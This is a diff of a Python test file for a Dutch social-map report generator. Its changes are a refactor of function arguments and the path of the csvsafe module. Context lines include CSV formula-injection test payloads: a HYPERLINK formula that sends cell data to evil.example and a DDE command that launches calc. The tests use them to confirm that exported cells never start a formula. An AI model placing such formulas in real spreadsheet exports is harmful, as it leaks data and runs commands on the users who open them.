@@ -286,7 +286,7 @@ def render_pages(kaart) -> dict[str, str]:
     dirs = theme_dirs("default", None)
     renderer = Renderer(kaart, make_environment(dirs), Assets.load(dirs))
     out = {}
-    for path, ctx in rapport_pages(kaart):
+    for path, ctx in rapport_pages(rapport_data(kaart)):
         page = Page(path, "rapport.html", {"gemeente": None, "g": "",
                                            "build_time": datetime(2027, 11, 22, 6), **ctx})
         out[path] = renderer.render(page).decode("utf-8")
@@ -353,9 +353,9 @@ def test_overview_links_every_report_page(tmp_path: Path) -> None:
 
 def test_csv_files_for_the_site_match_the_report() -> None:
     kaart = kaart_on(LATER)
-    files = dict(rapport_csv_files(kaart))
+    files = dict(rapport_csv_files(rapport_data(kaart)))
     assert set(files) == {f"rapport/{name}" for name in csv_tables(rapport_data(kaart))}
-    index_ctx = dict(rapport_pages(kaart))["rapport/index.html"]
+    index_ctx = dict(rapport_pages(rapport_data(kaart)))["rapport/index.html"]
     assert [f"rapport/{n}" for n in index_ctx["csv_bestanden"]] == list(files)
 
 
@@ -366,7 +366,7 @@ FORMULAS = ['=HYPERLINK("https://evil.example/?d="&A1;"Klik")', "+cmd|' /C calc'
 
 
 def _formula_cell(cell: str) -> bool:
-    """What a spreadsheet runs as a formula (checked here without sociale_kaart.outputs.csvsafe)."""
+    """What a spreadsheet runs as a formula (checked here without sociale_kaart.csvsafe)."""
     import re
 
     first = cell.lstrip()
@@ -388,7 +388,7 @@ def test_csv_cells_never_start_a_formula(tmp_path: Path) -> None:
     kaart = kaart_on(LATER, content=content)
     tables = [(tmp_path / "uit" / p.name).read_text(encoding="utf-8-sig")
               for p in write_csv(rapport_data(kaart), tmp_path / "uit")]
-    tables += [raw.decode("utf-8-sig") for _, raw in rapport_csv_files(kaart)]
+    tables += [raw.decode("utf-8-sig") for _, raw in rapport_csv_files(rapport_data(kaart))]
     cells = [c for text in tables for row in csv.reader(text.splitlines(), delimiter=";")
              for c in row]
     assert [c for c in cells if c and _formula_cell(c)] == []
@@ -398,7 +398,7 @@ def test_csv_cells_never_start_a_formula(tmp_path: Path) -> None:
 
 
 def test_safe_cell() -> None:
-    from sociale_kaart.outputs.csvsafe import csv_text, safe_cell
+    from sociale_kaart.csvsafe import csv_text, safe_cell
 
     for risky in ("=A1", "+A1", "-A1", "@A1", "\tx", "\r=1", " =1+1", "\n@SUM(A1)", "-2+3",
                   "+31 6 12345678"):
